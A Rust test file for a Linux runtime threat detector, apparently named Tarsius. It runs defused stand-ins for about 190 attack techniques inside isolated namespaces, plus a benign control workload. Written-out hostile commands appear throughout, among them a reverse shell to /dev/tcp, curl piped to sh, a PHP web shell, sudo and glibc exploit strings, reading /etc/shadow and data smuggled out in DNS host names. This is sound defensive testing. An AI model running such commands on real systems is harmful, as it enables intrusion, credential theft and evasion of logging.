//! The rules that come with Tarsius: each finds what is done for it, in a mount and network namespace of its own, and none finds what anybody does.

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;

use e2e::{Act, Line, Watch};

use crate::Test;
use crate::corpus::{Container, sh};

pub(crate) const TESTS: &[Test] = &[
    ("detector_rules_find_attacks", attacks),
    ("detector_rules_leave_work_alone", work),
    ("detector_rules_of_containers", in_container),
];

/// What is changed below is gone with the namespace: files are over the host's, and the network is of its own.
const PRELUDE: &str = "set -e
mount --make-rprivate /
mount -t tmpfs tmpfs /mnt
for d in etc usr var root; do
    mkdir -p /mnt/$d/upper /mnt/$d/work
    mount -t overlay overlay -o lowerdir=/$d,upperdir=/mnt/$d/upper,workdir=/mnt/$d/work /$d
done
mount -t tmpfs tmpfs /tmp
ip link set lo up
export HOME=/root
cd /tmp
set +e
exec </dev/null >/dev/null 2>&1
";

/// 30 questions for names that nobody has, to where nobody answers.
const ASKS_NAMES: &str = "perl -MSocket -e 'srand 5; socket(my $s, AF_INET, SOCK_DGRAM, 0);
    for (1 .. 30) {
        my $name = join \"\", map { chr 97 + int rand 26 } 1 .. 14;
        my $question = pack(\"n6\", $_, 0x100, 1, 0, 0, 0) . pack(\"C/a* C/a* C n n\", $name, \"invalid\", 0, 1, 1);
        send $s, $question, 0, pack_sockaddr_in(53, inet_aton(\"127.0.0.1\"));
    }'";

/// 8 questions for names that carry something, all in one domain.
const ASKS_FOR_DATA: &str = "perl -MSocket -e 'socket(my $s, AF_INET, SOCK_DGRAM, 0);
    for (1 .. 8) {
        my $question = pack(\"n6\", $_, 0x100, 1, 0, 0, 0) . pack(\"C/a* C/a* C/a* C n n\", \"6e61cafe0de1${_}b3f45a9c7d20\", \"tun\", \"invalid\", 0, 16, 1);
        send $s, $question, 0, pack_sockaddr_in(53, inet_aton(\"127.0.0.1\"));
    }'";

/// open_by_handle_at(2), of a handle that leads nowhere: not every file system has some.
const OPENS_BY_HANDLE: &str = "perl -e 'my $h = pack(\"Ll\", 8, 1) . \"\\0\" x 8; syscall(304, -100, $h, 0)'";

/// unshare(0) by code in memory of no file: mmap(2) of some to execute, read(2) into it, and a call.
const CALLS_FROM_NOWHERE: &str = "perl -MDynaLoader -e '
my $at = syscall 9, 0, 4096, 7, 34, -1, 0;
pipe my $r, my $w;
syswrite $w, \"\\xb8\\x10\\x01\\x00\\x00\\x31\\xff\\x0f\\x05\\xc3\";
syscall 0, fileno $r, $at, 10;
DynaLoader::dl_install_xsub(\"main::code\", $at);
code();
'";

/// What a rule finds, and what is done for it. Some only have the words of an attack after a colon, which does nothing.
const ATTACKS: &[(&str, &str)] = &[
    ("temporary_directory_execution", "cp /bin/true /tmp/brought; /tmp/brought"),
    ("download_executed", "curl -s -o /tmp/fetched file:///bin/true; chmod +x /tmp/fetched; /tmp/fetched"),
    ("hidden_program_executed", "cp /bin/true /usr/.hidden; /usr/.hidden"),
    ("kernel_thread_masquerading", "bash -c \"exec -a '[kworker/0:0]' /bin/true\""),
    ("reverse_shell_command", "bash -c ': bash -i >& /dev/tcp/192.0.2.1/9'"),
    ("decoded_to_shell", "sh -c 'echo Ogo= | base64 -d | sh'"),
    ("download_to_shell", "sh -c 'curl -s file:///dev/null | sh'"),
    ("loader_executes_program", "/lib64/ld-linux-x86-64.so.2 /bin/true"),
    ("database_spawned_shell", "cp /bin/sh /usr/local/bin/postgres; /usr/local/bin/postgres -c 'sh -c true; true'"),
    ("attack_tool_executed", "cp /bin/true /usr/local/bin/linpeas.sh; /usr/local/bin/linpeas.sh"),
    ("shell_profile_modification", "echo >>/root/.bashrc"),
    ("autostart_modification", "mkdir -p /etc/udev/rules.d; echo >/etc/udev/rules.d/99-tarsius.rules"),
    ("git_hook_modification", "mkdir -p /root/r/.git/hooks; ln -s /bin/true /root/r/.git/hooks/pre-commit"),
    ("account_file_modification", "cp /etc/passwd /etc/passwd.new; mv /etc/passwd.new /etc/passwd"),
    (
        "root_certificate_added",
        "mkdir -p /usr/local/share/ca-certificates; echo >/usr/local/share/ca-certificates/tarsius.crt",
    ),
    (
        "python_startup_modification",
        "mkdir -p /usr/lib/python3/dist-packages; echo >/usr/lib/python3/dist-packages/tarsius.pth",
    ),
    ("remote_login_modification", "mkdir -p /etc/ssh/sshd_config.d; echo >/etc/ssh/sshd_config.d/tarsius.conf"),
    ("name_resolution_modification", "echo >>/etc/hosts"),
    // setxattr(2) of the capability set of nobody (VFS_CAP_REVISION_2, linux/capability.h).
    (
        "file_capability_set",
        "cp /bin/true /usr/local/bin/capable
        perl -e 'my ($p, $n, $v) = (\"/usr/local/bin/capable\", \"security.capability\", pack(\"V5\", 0x02000000, 0, 0, 0, 0));
            syscall(188, $p, $n, $v, 20, 0)'",
    ),
    ("sudo_exploit_attempt", "cp /bin/true /usr/local/bin/sudo; /usr/local/bin/sudo -u#-1 id"),
    ("pkexec_without_arguments", "cp /bin/true /usr/local/bin/pkexec; bash -c \"exec -a '' /usr/local/bin/pkexec\""),
    ("glibc_tunables_exploit_attempt", "GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A /bin/true"),
    // A file of that path: the kernel's own is not there on every kernel.
    ("usermode_helper_modification", "mkdir -p /tmp/cgroup; : >/tmp/cgroup/uevent_helper"),
    (
        "raw_device_access",
        "mkdir -p /mnt/dev/mapper; echo >/mnt/dev/mapper/data
        mount --bind /mnt/dev /dev; head -c 1 /dev/mapper/data; umount /dev",
    ),
    ("namespaces_entered", "nsenter --uts=/proc/self/ns/uts true"),
    ("process_hidden_by_mount", "mount -t tmpfs tmpfs /proc/$$; umount /proc/$$"),
    ("userfaultfd_unprivileged", "setpriv --reuid=65534 --clear-groups perl -e 'syscall(323, 1)'"),
    ("timestamp_changed", "touch -d 2001-01-01 /tmp/old"),
    ("security_service_stopped", "sh -c ': systemctl stop auditd'"),
    ("audit_configuration_modification", "mkdir -p /etc/audit; echo >/etc/audit/auditd.conf"),
    ("firewall_disabled", "sh -c ': iptables -F'"),
    ("kernel_hardening_lowered", ": >>/proc/sys/kernel/randomize_va_space"),
    ("kernel_log_cleared", "setpriv --reuid=65534 --clear-groups dmesg -C"),
    ("log_truncated", "mkdir -p /var/log; : >/var/log/syslog"),
    ("history_disabled", "ln -s /dev/null /root/.zsh_history"),
    ("cloud_credentials_read", "mkdir -p /root/.aws; echo >/root/.aws/credentials; cat /root/.aws/credentials"),
    ("process_environment_read", "cat /proc/$$/environ"),
    ("packet_socket_opened", "perl -e 'socket(my $s, 17, 3, 0)'"),
    ("port_scan", "bash -c 'for p in $(seq 1 25); do : </dev/tcp/127.0.0.1/$p; done'"),
    ("host_scan", "bash -c 'for h in $(seq 1 35); do : </dev/tcp/127.0.0.$h/9; done'"),
    (
        "files_renamed_in_bulk",
        "mkdir /tmp/files; for n in $(seq 1 60); do : >/tmp/files/$n; done
        perl -e 'rename \"/tmp/files/$_\", \"/tmp/files/$_.locked\" for 1..60'",
    ),
    ("miner_executed", "sh -c ': --donate-level 1'"),
    ("listener_executed", "sh -c ': nc -lvp 4444'"),
    ("ssh_tunnel", "cp /bin/true /usr/local/bin/chisel; /usr/local/bin/chisel client"),
    ("disk_wiped", "echo >/tmp/secret; shred -u /tmp/secret"),
    ("shell_escape", "awk 'BEGIN { system(\"true\") }'"),
    ("terminal_spawned", "sh -c \": script -qc /bin/sh\""),
    ("decoded_into_pipe", "echo Ogo= | base64 -d | sh"),
    ("download_into_pipe", "curl -s file:///dev/null | sh"),
    ("package_manager_spawned_downloader", "cp /bin/sh /usr/local/bin/npm; /usr/local/bin/npm -c 'curl -s file:///dev/null; true'"),
    ("account_created", "useradd -D -s /bin/sh"),
    ("login_shell_changed", "chsh -s /bin/sh nobody"),
    ("system_program_replaced", "mv /usr/bin/last /usr/bin/last.real"),
    ("sudo_rights_listed", "/usr/local/bin/sudo -l"),
    ("kernel_module_tool_executed", "cp /bin/true /usr/local/bin/insmod; /usr/local/bin/insmod x.ko"),
    ("password_guessing", "for p in a b c; do echo $p | /usr/local/bin/sudo -S id; done"),
    ("file_in_device_directory", "mount --bind /mnt/dev /dev; echo >/dev/.hidden; umount /dev"),
    ("processes_hidden", "sh -c ': mount -o remount,hidepid=2 /proc'"),
    ("clock_changed", "setpriv --reuid=65534 --clear-groups date -s 2001-01-01"),
    ("credentials_searched", "find /root -name id_rsa"),
    ("credentials_copied", "mkdir -p /root/.gnupg; cp -r /root/.gnupg /tmp/stolen"),
    ("upload_by_web_client", "curl -s -F f=@/etc/hostname http://127.0.0.1:9/"),
    ("data_in_host_name", "curl -s http://aWQtNDcxMQ==.exfil.invalid/"),
    ("unit_of_temporary_file", "mkdir -p /etc/systemd/system; ln -s /tmp/x.service /etc/systemd/system/x.service"),
    ("setuid_programs_searched", "find /root -perm -4000"),
    ("mail_removed", "mkdir -p /var/mail; echo >/var/mail/nobody; rm /var/mail/nobody"),
    ("program_removed_itself", "cp /usr/bin/perl /tmp/once; /tmp/once -e 'unlink \"/tmp/once\"'"),
    ("kernel_crypto_socket", "perl -e 'socket(my $s, 38, 5, 0)'"),
    (
        "encryption_in_bulk",
        "for n in $(seq 1 12); do echo $n >/tmp/d$n; openssl enc -aes-128-cbc -pbkdf2 -k k -in /tmp/d$n -out /tmp/d$n.locked; done",
    ),
    ("systemd_unit_modification", "mkdir -p /etc/systemd/system; echo >/etc/systemd/system/tarsius.service"),
    ("kernel_helper_modification", "mkdir /tmp/binfmt_misc; echo >/tmp/binfmt_misc/register"),
    ("users_queried", "who; whoami; id; users; true"),
    ("service_stopped", "cp /bin/true /usr/local/bin/systemctl; /usr/local/bin/systemctl stop cron"),
    (
        "device_mount_from_namespace",
        "unshare --pid --fork --mount-proc sh -c 'mount -t ext4 /dev/vdz9 /mnt/nowhere; true'",
    ),
    ("root_directory_changed_by_script", "perl -e 'chroot(\"/tmp\")'"),
    ("user_changed_by_script", "perl -MPOSIX -e 'POSIX::setuid(65534); system(\"sh -c : x;\")'"),
    ("history_removed", "echo >/root/.bash_history; rm /root/.bash_history"),
    // process_vm_readv(2) of a child, which has the text at the same address.
    (
        "process_memory_read",
        "perl -e 'my ($x, $b) = (\"A\" x 64, \"B\" x 64); my $c = fork; sleep 9, exit unless $c;
            my $v = sub { pack(\"QQ\", unpack(\"Q\", pack(\"P\", $_[0])), 8) };
            syscall(310, $c, $v->($b), 1, $v->($x), 1, 0); kill 9, $c'",
    ),
    ("authorized_keys_modification", "mkdir -p /root/.ssh; echo >/root/.ssh/authorized_keys"),
    ("log_deletion", "mkdir -p /var/log; echo >/var/log/app.log; rm /var/log/app.log"),
    ("shadow_read", "cat /etc/shadow"),
    ("setuid_bit_set", "cp /bin/true /tmp/suid; chmod 4755 /tmp/suid"),
    ("pam_modification", "mkdir -p /etc/pam.d; echo >/etc/pam.d/other"),
    // bpf(2): BPF_PROG_LOAD of a socket filter that answers 0.
    (
        "bpf_program_loaded",
        "perl -e 'my ($i, $l) = (pack(\"CCsl\" x 2, 0xb7, 0, 0, 0, 0x95, 0, 0, 0), \"GPL\\0\");
            my $a = pack(\"LLQQ\", 1, 2, map { unpack(\"Q\", pack(\"P\", $_)) } $i, $l); syscall(321, 5, $a, length $a)'",
    ),
    ("dns_burst", ASKS_NAMES),
    ("generated_names_resolved", ASKS_NAMES),
    ("host_identified", "uname -a; cat /etc/os-release; uptime; hostname"),
    ("telnet_to_uncommon_port", "cp /bin/true /usr/local/bin/telnet; /usr/local/bin/telnet 127.0.0.1 8081"),
    ("sudo_rights_probed", "/usr/local/bin/sudo -n -l"),
    ("ping_sweep", "cp /bin/true /usr/local/bin/ping; for i in $(seq 12); do /usr/local/bin/ping -c1 127.0.9.$i; done"),
    ("shell_detached", "bash -c 'trap \"nohup sh -c id\" EXIT; exit 0'"),
    (
        "files_encrypted",
        "perl -e 'srand 7; for (1 .. 25) { open my $f, q(>), \"/tmp/noise$_\"; print $f map { chr int rand 256 } 1 .. 64 }'",
    ),
    ("mining_pool_resolved", "dig +tries=1 +time=1 @127.0.0.1 xmr-eu1.nanopool.org"),
    ("tunnel_service_resolved", "dig +tries=1 +time=1 @127.0.0.1 tarsius.trycloudflare.com"),
    ("machine_stopped", "cp /bin/true /usr/local/bin/poweroff; /usr/local/bin/poweroff"),
    (
        "keystrokes_read",
        "mkdir -p /mnt/dev/input; : >/mnt/dev/input/event0
        mount --bind /mnt/dev /dev; head -c 1 /dev/input/event0; umount /dev",
    ),
    ("link_to_secret", "ln -s /etc/shadow /tmp/harmless"),
    (
        "metadata_service_asked",
        "ip addr add 169.254.169.254/32 dev lo; curl -s http://169.254.169.254/latest/meta-data/",
    ),
    ("history_read", "echo x >/root/.bash_history; cat /root/.bash_history"),
    (
        "browser_secrets_read",
        "mkdir -p /root/.mozilla/firefox/x.default; cd /root/.mozilla/firefox/x.default; echo >logins.json; cat logins.json; cd /tmp",
    ),
    ("guards_sought", "echo | grep falcon-sensor"),
    ("file_made_immutable", "cp /bin/true /usr/local/bin/chattr; /usr/local/bin/chattr +i /etc/hostname"),
    ("security_product_removed", "sh -c ': apt-get purge -y auditd'"),
    ("process_named_as_kernel_thread", "perl -e '$0 = \"kworker/0:1\"'"),
    ("system_file_writable_by_all", "cp /bin/true /usr/local/bin/open; chmod 777 /usr/local/bin/open"),
    ("interpreter_decodes_and_runs", "perl -MMIME::Base64 -e 'eval decode_base64(\"MQ==\")'"),
    ("data_hidden_in_picture", "cp /bin/true /usr/local/bin/steghide; /usr/local/bin/steghide"),
    (
        "application_server_spawned_shell",
        "cp /bin/sh /usr/local/bin/java; /usr/local/bin/java -c 'sh -c true; true' catalina",
    ),
    ("shell_connects", "ip addr add 192.0.2.1/32 dev lo; bash -c ': </dev/tcp/192.0.2.1/9'"),
    (
        "library_from_temporary_directory",
        "cp $(ldd /bin/true | grep -o '/[^ ]*libc[^ ]*') /tmp/brought.so; LD_PRELOAD=/tmp/brought.so /bin/true",
    ),
    ("known_malware_file", "cp /bin/true /tmp/kdevtmpfsi; /tmp/kdevtmpfsi"),
    // ptrace(2): PTRACE_ATTACH.
    (
        "process_attached_to",
        "perl -e 'my $c = fork; sleep 9, exit unless $c; syscall(101, 16, $c, 0, 0); kill 9, $c'",
    ),
    ("service_account_shell", "script -qc 'setpriv --reuid=65534 --clear-groups sh -c true' /dev/null"),
    ("running_program_removed", "cp /bin/true /tmp/leaves; /tmp/leaves; rm /tmp/leaves"),
    ("daemon_name_in_other_place", "cp /bin/true /tmp/crond; /tmp/crond"),
    ("shell_trap_command", "bash -c 'trap \"nohup true\" EXIT; exit 0'"),
    ("written_program_executed", "dd if=/bin/true of=/tmp/written; chmod +x /tmp/written; /tmp/written"),
    ("cluster_api_asked", "KUBERNETES_SERVICE_HOST=127.0.0.1 bash -c 'exec 3<>/dev/tcp/127.0.0.1/6443'"),
    ("guards_searched", "echo | grep falcon-sensor"),
    ("keys_logged_by_shell", "bash -c 'trap \": typed\" DEBUG; true'"),
    ("misleading_name_executed", "cp /bin/true /tmp/picture.png; /tmp/picture.png"),
    ("guard_configuration_modification", "mkdir -p /etc/selinux; echo >/etc/selinux/config"),
    ("guard_killed", "cp /bin/sleep /tmp/falco; /tmp/falco 99 & until grep -q falco /proc/$!/comm || ! kill -0 $!; do :; done; kill -9 $!; wait"),
    ("swap_switched_off", "cp /bin/true /usr/local/bin/swapoff; /usr/local/bin/swapoff -a"),
    ("port_redirected", "cp /bin/true /usr/local/bin/iptables; /usr/local/bin/iptables -t nat -A PREROUTING -j REDIRECT"),
    ("named_pipe_shell", "mkfifo /tmp/pipe; cp /bin/true /usr/local/bin/nc; /usr/local/bin/nc 127.0.0.1 9"),
    ("file_sent_by_tool", "/usr/local/bin/nc 127.0.0.1 9 </etc/hostname"),
    ("data_in_ping", "/usr/local/bin/ping -p 41424344 127.0.0.1"),
    ("drop_site_used", "curl -s 'http://127.0.0.1:9/?to=//transfer.sh/'"),
    ("data_in_dns_queries", ASKS_FOR_DATA),
    ("script_from_descriptor", "bash <(echo true)"),
    // Of a script that does nothing.
    (
        "decoded_file_executed",
        "echo IyEvYmluL3NoCg== | base64 -d >/usr/local/bin/decoded; chmod +x /usr/local/bin/decoded; /usr/local/bin/decoded",
    ),
    ("web_shell_written", "mkdir -p /var/www/html; echo '<?php system($_GET[0]);' >/var/www/html/shell.php"),
    // io_uring_setup(2).
    ("io_uring_by_unlikely_program", "perl -e 'my $p = \"\\0\" x 120; syscall 425, 8, $p'"),
    ("account_changed", "cp /bin/true /usr/local/bin/chpasswd; /usr/local/bin/chpasswd"),
    ("library_path_modification", "mkdir -p /etc/ld.so.conf.d; echo >/etc/ld.so.conf.d/tarsius.conf"),
    ("transient_timer_created", "cp /bin/true /usr/local/bin/systemd-run; /usr/local/bin/systemd-run --on-calendar hourly id"),
    (
        "container_runtime_asked",
        "perl -MSocket -e 'my $at = pack_sockaddr_un(\"/tmp/docker.sock\"); socket my $l, AF_UNIX, SOCK_STREAM, 0; bind $l, $at; listen $l, 1;
            socket my $s, AF_UNIX, SOCK_STREAM, 0; connect $s, $at'",
    ),
    ("disk_node_made", "mknod /tmp/disk b 240 0"),
    ("file_opened_by_handle", OPENS_BY_HANDLE),
    ("web_server_by_hand", "sh -c ': python3 -m http.server'"),
    ("port_of_malware_connected", "ip addr add 203.0.113.10/32 dev lo; bash -c ': </dev/tcp/203.0.113.10/4444'"),
    ("shell_given_to_service_account", "cp /bin/true /usr/local/bin/su; /usr/local/bin/su -s /bin/sh -c id nobody"),
    ("kerberos_secrets_read", "echo >/tmp/krb5cc_0; cat /tmp/krb5cc_0"),
    (
        "known_hosts_gathered",
        "for u in a b; do mkdir -p /root/$u/.ssh; echo >/root/$u/.ssh/known_hosts; cat /root/$u/.ssh/known_hosts; done",
    ),
    ("rootkit_signal_sent", "sleep 99 & kill -64 $!; wait"),
    ("anonymity_network_used", "cp /bin/true /usr/local/bin/tor; /usr/local/bin/tor --RunAsDaemon 1"),
    ("remote_control_tool_executed", "cp /bin/true /usr/local/bin/anydesk; /usr/local/bin/anydesk"),
    ("share_copied", "cp /bin/true /usr/local/bin/smbclient; /usr/local/bin/smbclient //192.0.2.1/x -c 'mget *'"),
    // It is found when nothing was executed for two seconds.
    ("process_named_as_daemon", "perl -e '$0 = \"sshd: root\"; sleep 3'"),
    ("user_namespace_by_command", "setpriv --reuid=65534 --clear-groups unshare -U true"),
    ("directory_changed", "cp /bin/true /usr/local/bin/ldapadd; /usr/local/bin/ldapadd -x"),
    ("directory_searched", "cp /bin/true /usr/local/bin/ldapsearch; /usr/local/bin/ldapsearch '(objectClass=user)'"),
    ("browser_extension_forced", "mkdir -p /etc/chromium/policies/managed; echo >/etc/chromium/policies/managed/x.json"),
    ("backups_removed", "rm -rf /root/backups"),
    ("banner_modification", "echo >/etc/motd"),
    ("web_pages_replaced", "for s in a b; do mkdir -p /var/www/$s; echo >/var/www/$s/index.html; done"),
    ("boot_loader_modification", "mkdir -p /etc/default; echo >>/etc/default/grub"),
    ("cluster_secrets_dumped", "cp /bin/true /usr/local/bin/kubectl; /usr/local/bin/kubectl get secrets -A -o yaml"),
    ("container_given_the_host", "cp /bin/true /usr/local/bin/docker; /usr/local/bin/docker run --privileged x"),
    (
        "hosts_reached_in_a_row",
        "cp /bin/true /usr/local/bin/ssh
        for n in 1 2 3; do /usr/local/bin/ssh -o StrictHostKeyChecking=no root@192.0.2.$n id; done",
    ),
    ("root_bound_elsewhere", "mkdir -p /tmp/root; mount --bind / /tmp/root; umount /tmp/root"),
    // setns(2).
    ("namespaces_entered_by_script", "perl -e 'open my $n, \"<\", \"/proc/self/ns/uts\"; syscall 308, fileno $n, 0'"),
    ("package_source_modification", "mkdir -p /etc/apt/sources.list.d; echo >/etc/apt/sources.list.d/tarsius.list"),
    ("files_zeroed", "perl -e 'for (1 .. 12) { open my $f, q(>), \"/tmp/zero$_\"; print $f \"\\0\" x 64 }'"),
    ("transient_service_created", "/usr/local/bin/systemd-run sh -c id"),
    ("file_system_debugger_executed", "cp /bin/true /usr/local/bin/debugfs; /usr/local/bin/debugfs -R ls x"),
    ("password_tool_executed", "cp /bin/true /usr/local/bin/hashcat; /usr/local/bin/hashcat"),
    (
        "credential_dumper_executed",
        "cp /bin/true /usr/local/bin/impacket-secretsdump; /usr/local/bin/impacket-secretsdump",
    ),
    ("tunnel_tool_executed", "/usr/local/bin/chisel client"),
    ("names_asked_by_web", "curl -s 'http://127.0.0.1:9/dns-query?name=x'"),
    ("static_pod_placed", "mkdir -p /etc/kubernetes/manifests; echo >/etc/kubernetes/manifests/x.yaml"),
    ("cluster_admin_taken", "/usr/local/bin/kubectl create clusterrolebinding x --clusterrole=cluster-admin"),
    ("web_server_extended", "mkdir -p /var/www/uploads; echo >/var/www/uploads/.htaccess"),
    ("database_wrote_code", "cp $(command -v perl) /usr/local/bin/mysqld; /usr/local/bin/mysqld -e 'open my $f, q(>), q(/tmp/udf.so)'"),
    (
        "databases_dropped",
        "cp /bin/true /usr/local/bin/mysql; for d in a b c; do /usr/local/bin/mysql -e \"drop database $d\"; done",
    ),
    ("file_covered_by_mount", "echo >/var/log/covered; mount --bind /dev/null /var/log/covered; umount /var/log/covered"),
    // pidfd_open(2), pidfd_getfd(2), of itself.
    ("descriptor_taken", "perl -e 'my $p = syscall 434, $$ + 0, 0; syscall 438, $p + 0, 0, 0'"),
    // Those that look only where they are named.
    ("history_left_out", "HISTCONTROL=ignoreboth bash -c true"),
    (
        "compiled_program_executed",
        "cp $(command -v perl) /usr/local/bin/ld.bfd
        /usr/local/bin/ld.bfd -MFile::Copy -e 'copy(\"/bin/true\", \"/tmp/made\")'; chmod +x /tmp/made; /tmp/made",
    ),
    ("call_from_no_file", CALLS_FROM_NOWHERE),
    ("user_namespace_created", "setpriv --reuid=65534 --clear-groups unshare --user true"),
    ("virtual_machine_looked_for", "cat /proc/1/cgroup"),
    ("files_looked_for", "ls -R /tmp"),
    ("screen_or_sound_taken", "cp /bin/true /usr/local/bin/scrot; /usr/local/bin/scrot"),
    ("program_made_longer", "cp /bin/true /tmp/longer; truncate -s +10 /tmp/longer"),
    ("files_removed", "rm -f /tmp/longer"),
    ("privileged_container_started", "perl -e '$0 = \"runc:[2:INIT]\"; exec \"/bin/true\"'"),
];

/// What people and programs do all day.
const WORK: &str = "
ls -la /etc /usr/bin; cat /etc/hostname /etc/os-release /etc/passwd; grep -r root /etc/passwd
mkdir -p /root/work; cd /root/work
for n in $(seq 1 60); do echo $n >file$n; done
for n in $(seq 1 60); do mv file$n other$n; done
tar cf all.tar other*; gzip all.tar; tar xzf all.tar.gz; cp -r /root/work /root/copy; rm -r /root/copy
sha256sum other1; sort other1; head -c 10 /dev/zero; dd if=/dev/zero of=image count=1
ln -s other1 link; touch other1; chmod 640 other1; find . -name 'other1*'
sh -c 'echo aGVsbG8= | base64 -d'; echo hello | tr a-z A-Z | sed s/H/J/
curl -s -o page http://127.0.0.1:9/; curl -s -o page file:///etc/hostname; cat page
for n in $(seq 1 30); do curl -s http://127.0.0.1:9/; done
bash -c 'trap \"rm -f other2\" EXIT; true'; perl -e 'print 1'; ps; env; sleep 0; true; nice true; nohup true; nohup sh work.sh; setsid true; xargs true; timeout 1 true
cat /etc/hostname /etc/os-release
perl -MMIME::Base64 -e 'srand 16; for (1 .. 30) { open my $f, q(>), qq(coded$_); print $f encode_base64(join q(), map { chr int rand 256 } 1 .. 64) }'
perl -e 'for (1 .. 30) { open my $f, q(>), qq(words$_); print $f qq(The quick brown fox jumps over the lazy dog, $_ times.) }'
mkfifo pipe; cat pipe & echo x >pipe; wait; cat <(echo hello) </etc/hostname; HISTSIZE=1000 HISTCONTROL=ignoredups bash -c true
echo true >todo.txt.x; sh ./todo.txt.x; sysctl kernel.ostype; sleep 5 & kill $!; wait; base64 all.tar.gz | base64 -d >again.tar.gz
ln -s /etc/hostname name; ln link hard; chmod 755 all.tar.gz; perl -e '$0 = q(work)'; dig +tries=1 +time=1 @127.0.0.1 www.example.org
mkdir -p /etc/wireguard; echo >/etc/wireguard/wg0.conf; printf '#!/bin/bash\\nread -r x </etc/wireguard/wg0.conf\\n' >/usr/local/bin/wg-quick; bash /usr/local/bin/wg-quick up wg0
useradd --help; systemctl --version; ssh -V; git --version; openssl version; ip addr
";

/// What these detectors find of a script's processes.
fn findings(detectors: &str, script: &str) -> Vec<Line> {
    let dir = tempfile::Builder::new().prefix("tarsius-rules-").tempdir_in("/run").unwrap();
    let path = dir.path().join("script");
    fs::write(&path, format!("{PRELUDE}{script}")).unwrap();
    let command = format!("unshare --mount --net --ipc --uts /bin/bash {}", path.display());
    let mut act = Act::new("commands", &[command]);
    let scope = format!("tree={}", act.pid());
    let events = format!("sched_process_exec,{detectors}");
    let watch = Watch::start(&["--events", &events, "--scope", &scope]);
    act.perform();
    let account = watch.stop();
    account.assert_clean();
    crate::session::validate(&account);
    let (found, executed): (Vec<Line>, Vec<Line>) =
        account.lines.0.into_iter().partition(|l| l.0.get("detector").is_some());
    assert!(executed.len() > 50, "the script did little: {executed:?}");
    found
}

fn attacks(name: &str) {
    if !Path::new("/proc/sys/kernel/randomize_va_space").exists() {
        println!("SKIP {name}: this kernel has no setting for address space randomization");
        return;
    }
    let script: String = ATTACKS.iter().map(|(_, done)| format!("{done}\n")).collect();
    let names: Vec<&str> = ATTACKS.iter().map(|(name, _)| *name).collect();
    let found = findings(&names.join(","), &script);
    let found: BTreeSet<&str> = found.iter().filter_map(|l| l.0["name"].as_str()).collect();
    let missing: Vec<&str> =
        ATTACKS.iter().map(|(name, _)| *name).filter(|name| !found.contains(name)).collect();
    assert_eq!(missing, [""; 0], "of {found:?}");
}

/// The control: nothing of medium severity or more, and no rule of ours at all, where nobody does harm.
fn work(_: &str) {
    let found = findings("detectors", WORK);
    let wrong: Vec<_> = found
        .iter()
        .filter(|l| {
            let ours = l.0["detector"].as_str().is_some_and(|id| id.starts_with("TAR-"));
            ours || !["INFO", "LOW"].iter().any(|s| l.0["threat"]["severity"] == *s)
        })
        .map(|l| (&l.0["name"], &l.0["detected_from"]["data"]))
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// What is an attack in a container only: outside is the control.
fn in_container(_: &str) {
    let container = Container::new("c");
    let watch = Watch::start(&["--events", "open_by_handle_in_container,open_by_handle_at"]);
    let opens = format!("exec {OPENS_BY_HANDLE}");
    let (inside, outside) = (container.sh(&opens), sh(&opens));
    let account = watch.stop();
    account.assert_clean();
    let of = |name| account.lines.of(name);
    assert!(of("open_by_handle_at").iter().any(|l| outside.is_of(l)), "{:?}", account.lines);
    let [found] = of("open_by_handle_in_container")[..] else { panic!("{:?}", account.lines) };
    assert!(inside.is_of(found), "{found:?}");
    assert_eq!(found.0["detector"], "TAR-137");
}
